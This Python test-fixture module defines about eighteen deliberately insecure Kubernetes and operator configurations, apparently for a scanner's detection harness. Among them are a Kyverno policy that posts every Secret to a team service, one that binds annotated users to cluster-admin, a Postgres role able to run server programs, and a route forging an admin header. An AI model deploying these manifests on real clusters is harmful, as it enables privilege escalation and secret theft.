"""Attacks on clusters by rights, policies and operators that act for others (2026-11-29, eleventh set, blind).

Objects by the documentation of Kubernetes and of the operators, as known.
"""

from ..blind import TAGS, cluster_role, crd, k8s, meta, workload
from ..harness import Given
from . import Attack

IDN = ("FJ-IDN-", "FJ-ESC-", "FJ-EXP-")
OPEN = ("FJ-EXP-", "FJ-IDN-", "FJ-ESC-", "FJ-RES-", "FJ-ENC-")
HERE = "https://kubernetes.default.svc"


def _top(kind: str, name: str, spec: object) -> Given:
    return k8s(kind, {"metadata": {"name": name, "labels": TAGS}, "spec": spec}, name)


def _config(name: str, namespace: str, **data: str) -> tuple[Given, ...]:
    return (k8s("core/v1:ConfigMap", {"metadata": meta(name, namespace), "data": data}),)


SEND = {
    "name": "send", "match": {"any": [{"resources": {"kinds": ["Secret"]}}]},
    "context": [{"name": "answer", "apiCall": {
        "method": "POST", "data": [{"key": "object", "value": "{{request.object}}"}],
        "service": {"url": "http://lengths.team-a.svc.cluster.local/check"}}}],
    "validate": {"failureAction": "Enforce", "message": "The secret is too short", "deny": {"conditions": {"any": [
        {"key": "{{answer.short}}", "operator": "Equals", "value": True}]}}},
}  # fmt: skip
OWNER = {
    "name": "owner", "match": {"any": [{"resources": {"kinds": ["Namespace"]}}]},
    "generate": {
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "synchronize": True,
        "name": "owner-{{request.object.metadata.name}}", "data": {
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
            "subjects": [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io",
                          "name": "{{request.object.metadata.annotations.owner}}"}]}},
}  # fmt: skip

ATTACKS = (
    Attack("a role runs commands in pods by the verb that reads", IDN, (cluster_role(
        {"apiGroups": [""], "resources": ["pods", "pods/log"], "verbs": ["get", "list"]},
        {"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["get"]}),),
        "critical", "a request by WebSocket is a GET: before 1.35 `get` on pods/exec runs commands in each pod "
        "(Kubernetes, 'Authorization', pods/exec by WebSocket)"),
    Attack("a role acts as every user by the newer verbs", IDN, (cluster_role(
        {"apiGroups": ["authentication.k8s.io"], "resources": ["users", "groups"], "verbs": ["impersonate:user-info"]},
        {"apiGroups": ["*"], "resources": ["*"], "verbs": ["impersonate-on:user-info:list"]}),),
        "critical", "whoever has it lists what any user lists, secrets too (Kubernetes, 'User impersonation', "
        "constrained impersonation)"),
    Attack("a role takes addresses of others by the state of its services", IDN, (cluster_role(
        {"apiGroups": [""], "resources": ["services"], "verbs": ["get", "list"]},
        {"apiGroups": [""], "resources": ["services/status"], "verbs": ["patch", "update"]}),),
        "critical", "the address of a load balancer in the state takes over what the cluster sends to it (Kubernetes, "
        "CVE-2020-8554)"),
    Attack("a claim is filled from a snapshot of another namespace", IDN, (k8s("core/v1:PersistentVolumeClaim", {
        "metadata": meta("copy"), "spec": {
            "accessModes": ["ReadWriteOnce"], "storageClassName": "encrypted",
            "dataSourceRef": {"apiGroup": "snapshot.storage.k8s.io", "kind": "VolumeSnapshot", "name": "ledger",
                              "namespace": "payments"},
            "resources": {"requests": {"storage": "20Gi"}}}}),),
        "major", "the team reads the disk of payments (Kubernetes, 'Cross namespace data sources')"),
    Attack("a token of a pod is good for ten years", IDN, (workload("apps/v1:Deployment", {
        "volumeMounts": [{"name": "token", "mountPath": "/var/run/vault", "readOnly": True}]}, volumes=[
            {"name": "token", "projected": {"sources": [{"serviceAccountToken": {
                "audience": "vault", "path": "token", "expirationSeconds": 315360000}}]}}]),),
        "major", "who copies it once signs in to the vault as the app until the pod is gone (Kubernetes, "
        "'ServiceAccount token volume projection')"),
    Attack("who annotates a namespace becomes administrator by a policy of Kyverno", IDN, (
        _top("kyverno.io/v1:ClusterPolicy", "owner", {"rules": [OWNER]}),),
        "critical", "the annotation names the user who is bound to cluster-admin (Kyverno, 'Generate Rules')"),
    Attack("a policy of Kyverno deletes the policies of networks every five minutes", IDN, (
        _top("kyverno.io/v2:ClusterCleanupPolicy", "tidy", {
            "match": {"any": [{"resources": {"kinds": ["networking.k8s.io/v1/NetworkPolicy"]}}]},
            "schedule": "*/5 * * * *"}),),
        "critical", "every pod reaches every other and the internet (Kyverno, 'Cleanup Policies')"),
    Attack("a policy of Kyverno sends each secret to the service of a team", IDN, (
        _top("kyverno.io/v1:ClusterPolicy", "lengths", {"rules": [SEND]}),),
        "critical", "the team has each secret that somebody writes (Kyverno, 'Service Calls')"),
    Attack("applications of a project are applied by an account of the system", IDN, (
        k8s("argoproj.io/v1alpha1:AppProject", {"metadata": meta("team-a", "argocd"), "spec": {
            "sourceRepos": ["https://git.dc1.example.ae/team-a/apps.git"],
            "destinations": [{"server": HERE, "namespace": "team-a"}],
            "destinationServiceAccounts": [{
                "server": HERE, "namespace": "team-a",
                "defaultServiceAccount": "kube-system:clusterrole-aggregation-controller"}]}}),),
        "critical", "the account may give itself any right, and the team's repository says what it does (Argo CD, "
        "'Application Sync using impersonation')"),
    Attack("users of Argo CD get a shell in pods", IDN, _config("argocd-cm", "argocd", **{
        "url": "https://deploy.example.ae", "exec.enabled": "true", "exec.shells": "bash,sh"}),
        "major", "whoever may change an application runs commands in its pods (Argo CD, 'Web-based Terminal')"),
    Attack("applications of Argo CD count in every namespace", IDN, _config("argocd-cmd-params-cm", "argocd", **{
        "application.namespaces": "*", "applicationsetcontroller.namespaces": "*"}),
        "critical", "who writes an object in his namespace deploys with the rights of Argo CD (Argo CD, "
        "'Applications in any namespace')"),
    Attack("a store of the cluster hands out the secrets of payments", IDN, (
        _top("external-secrets.io/v1:ClusterSecretStore", "inner", {"provider": {"kubernetes": {
            "remoteNamespace": "payments", "server": {"url": HERE, "caProvider": {
                "type": "ConfigMap", "name": "kube-root-ca.crt", "key": "ca.crt", "namespace": "payments"}},
            "auth": {"serviceAccount": {"name": "reader", "namespace": "payments"}}}}}),),
        "critical", "each namespace fills its secrets from those of payments (External Secrets, 'Kubernetes "
        "provider')"),
    Attack("passwords that are made have four letters", IDN, (crd("generators.external-secrets.io/v1alpha1:Password", {
        "length": 4, "digits": 0, "symbols": 0, "noUpper": True, "allowRepeat": True}),),
        "major", "they are guessed in seconds (External Secrets, 'Password generator')"),
    Attack("a sealed secret is opened in every namespace", IDN, (k8s("bitnami.com/v1alpha1:SealedSecret", {
        "metadata": meta("ledger", "payments", annotations={"sealedsecrets.bitnami.com/cluster-wide": "true"}),
        "spec": {"encryptedData": {"password": "AgBy3i4OJSWK+PiTySYZZA9rO43cGDEq"}}}),),
        "major", "whoever reads the repository opens it in his own namespace (Sealed Secrets, 'Scopes')"),
    Attack("users of Kafka are whoever a team's namespace says", IDN, (
        k8s("kafka.strimzi.io/v1beta2:Kafka", {"metadata": meta("ledger", "payments"), "spec": {
            "kafka": {"version": "4.1.0", "authorization": {"type": "simple"}, "listeners": [
                {"name": "tls", "port": 9093, "type": "internal", "tls": True, "authentication": {"type": "tls"}}],
                "template": {"pod": {"metadata": {"labels": TAGS}}}},
            "entityOperator": {"userOperator": {"watchedNamespace": "team-a"}}}}),),
        "critical", "the team writes itself a user who reads each topic of payments (Strimzi, "
        "'EntityUserOperatorSpec')"),
    Attack("an application of a database runs programs on its server by a membership", IDN, (
        crd("postgresql.cnpg.io/v1:Cluster", {
            "instances": 3, "storage": {"size": "20Gi", "storageClass": "encrypted"}, "managed": {"roles": [
                {"name": "app", "ensure": "present", "login": True, "inherit": True,
                 "inRoles": ["pg_execute_server_program", "pg_read_server_files"]}]}}),),
        "critical", "COPY ... FROM PROGRAM is a shell beside the data (PostgreSQL, 'Predefined Roles'; CloudNativePG, "
        "'Role Management')"),
    Attack("each caller of an app is its administrator by a header of the route", OPEN, (
        k8s("gateway.networking.k8s.io/v1:HTTPRoute", {"metadata": meta("dashboards"), "spec": {
            "parentRefs": [{"name": "edge", "namespace": "falaj-gateway"}], "hostnames": ["dashboards.example.ae"],
            "rules": [{"filters": [{"type": "RequestHeaderModifier", "requestHeaderModifier": {
                "set": [{"name": "X-WEBAUTH-USER", "value": "admin"}]}}],
                "backendRefs": [{"name": "grafana", "port": 3000}]}]}}),),
        "critical", "the app believes the header, so that nobody signs in (Gateway API, 'HTTP Header Modifiers'; "
        "Grafana, 'Auth proxy')"),
    Attack("a slice of addresses joins the service of payments", OPEN, (k8s("discovery.k8s.io/v1:EndpointSlice", {
        "metadata": {"name": "api-extra", "namespace": "payments",
                     "labels": {**TAGS, "kubernetes.io/service-name": "api"}},
        "addressType": "IPv4", "ports": [{"name": "https", "port": 8443, "protocol": "TCP"}],
        "endpoints": [{"addresses": ["10.244.7.31"], "conditions": {"ready": True}}]}),),
        "critical", "a part of the calls to payments ends at an address that no selector chose (Kubernetes, "
        "'EndpointSlices', ownership)"),
)  # fmt: skip
